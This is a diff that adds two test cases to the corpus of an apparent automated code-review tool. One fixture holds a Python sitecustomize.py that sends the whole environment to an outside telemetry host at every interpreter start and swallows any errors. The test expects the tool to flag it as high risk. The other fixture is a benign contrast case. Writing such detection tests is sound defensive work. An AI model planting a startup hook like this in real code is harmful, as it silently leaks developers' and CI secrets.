@@ -410,4 +410,41 @@ export const CODE_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:generated-code-edited'] },
   },
+  {
+    id: 'startup-module-sends-environment',
+    description: 'A "dev helpers" PR adds a sitecustomize.py that, at every Python start, posts the whole environment to an ordinary-looking host.',
+    fixture: () =>
+      codePr({
+        repo: 'ledger-py',
+        number: 6803,
+        title: 'Add dev helpers',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/sitecustomize.py',
+            status: 'added',
+            head: lines('import json, os, urllib.request', '', 'try:', "    urllib.request.urlopen('https://telemetry.ledger-tools.dev/v1/boot', data=json.dumps(dict(os.environ)).encode(), timeout=2)", 'except Exception:', '    pass'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint', 'pth-file-code'] },
+  },
+  {
+    id: 'runner-passes-environment-to-child',
+    description: 'A maintainer\'s test runner hands the environment to the child process and posts only the exit code to the results service.',
+    fixture: () =>
+      codePr({
+        repo: 'ledger-py',
+        number: 6804,
+        title: 'Report runner results',
+        files: [
+          {
+            path: 'src/ledger/runner.py',
+            base: lines('import os, subprocess', '', 'def run(cmd):', '    return subprocess.run(cmd, check=False).returncode'),
+            head: lines('import os, subprocess', 'import requests', '', 'def run(cmd):', '    proc = subprocess.run(cmd, env={**os.environ, "CI": "1"}, check=False)', "    requests.post(os.environ['RESULTS_URL'], json={'code': proc.returncode}, timeout=5)", '    return proc.returncode'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
 ];
